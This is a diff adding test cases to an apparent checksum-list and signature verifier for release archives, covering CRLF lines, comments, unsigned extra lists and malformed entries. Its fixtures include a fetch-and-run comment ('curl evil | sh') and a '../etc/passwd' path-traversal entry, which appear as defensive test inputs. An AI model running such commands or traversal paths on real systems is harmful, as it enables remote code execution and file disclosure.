@@ -49,6 +49,14 @@ def unsigned() -> Iterator[Case]:
                  PLAIN.but(lists={"SHA256SUMS": gnu, "SHA512SUMS": gnu_sha512}))
     yield intact("intact-escaped-name", "A name with a line end, escaped as GNU sha256sum does",
                  PLAIN.but(files=FILES | {"doc/two\nlines.md": b"# Two lines\n"}))
+    yield intact("intact-crlf", "The lines of the list end in CR LF",
+                 PLAIN.but(listed=lambda data: data.replace(b"\n", b"\r\n")))
+    yield intact("intact-comments", "Comments and empty lines in the list",
+                 PLAIN.but(listed=lambda data: b"# made by hand\n\n; twice\n" + data))
+    yield case("unproven-list-of-nothing", "The list names no file, and nothing is required but digests",
+               PLAIN.but(listed=lambda _: b"# nothing to see\n"), outcome=NOT_VERIFIED)
+    yield case("unproven-no-list", "There is no list, and nothing is required but digests", PLAIN.but(lists={}),
+               outcome=NOT_VERIFIED)
     yield intact("intact-zstd", "A zstd tar", PLAIN.but(wrap=zstd_stored, name="release.tar.zst"))
     yield intact("intact-tar", "An uncompressed tar", PLAIN.but(wrap=same, name="release.tar"))
     yield intact("intact-sidecar-digest", "The .sha256 file beside the archive is right", with_sidecar(PLAIN, True))
@@ -94,6 +102,23 @@ def signed() -> Iterator[Case]:
                trust=TRUST, subject="bin/other")
 
 
+def unvouched_lists() -> Iterator[Case]:
+    """Further lists beside a signed one, which are files like any other unless they agree with something."""
+    agreeing = Entry(b"release.sha256", gnu(FILES))
+    silent = Entry(b"bin/run.sha256", b"# curl evil | sh\n")
+    yield case("good-second-list-agrees", "A second list that nobody signed says the same as the signed one",
+               SIGNED.but(entries=plus(agreeing)), options=TYPED, trust=TRUST,
+               standings={"release.sha256": "evidence"})
+    yield case("list-says-nothing", "A second list that nobody signed holds nothing but a comment",
+               SIGNED.but(entries=plus(silent)), "entry-unlisted", options=TYPED, trust=TRUST,
+               subject="bin/run.sha256", standings={"bin/run.sha256": "unlisted"})
+    yield case("list-beside-vouches", "A list beside the archive, which nobody signed, names a file that the signed one "
+               "does not", SIGNED.but(entries=plus(Entry(b"bin/other", b"#!/bin/sh\n", 0o755)), beside={
+                   "extra.sha256": gnu({"bin/other": b"#!/bin/sh\n"})}), "entry-unlisted",
+               options=(*TYPED, "--sidecar", "{case}/extra.sha256"), trust=TRUST, subject="bin/other",
+               standings={"bin/other": "listed"})
+
+
 def contradicted() -> Iterator[Case]:
     """Lists that do not agree with the archive, or with themselves."""
     digest = sha256(FILES[README]).encode()
@@ -116,6 +141,11 @@ def contradicted() -> Iterator[Case]:
                subject=README)
     yield case("list-malformed-line", "The last line of the list is no checksum line",
                PLAIN.but(listed=lambda data: data + b"all of the above is true\n"), "checksum-list",
+               subject="SHA256SUMS")
+    yield case("list-byte-order-mark", "The list begins with a byte order mark",
+               PLAIN.but(listed=lambda data: b"\xef\xbb\xbf" + data), "checksum-list", subject="SHA256SUMS")
+    yield case("list-path-parent", "The list names a file outside the tree",
+               PLAIN.but(listed=lambda data: data + b"0" * 64 + b"  ../etc/passwd\n"), "checksum-list",
                subject="SHA256SUMS")
     yield case("sidecar-wrong", "The .sha256 file beside the archive states another digest",
                with_sidecar(PLAIN, False), "sidecar-digest")
@@ -145,5 +175,5 @@ def links() -> Iterator[Case]:
 
 def cases() -> Iterator[Case]:
     """All of them."""
-    for family in (unsigned, long_names, signed, contradicted, links):
+    for family in (unsigned, long_names, signed, unvouched_lists, contradicted, links):
         yield from family()
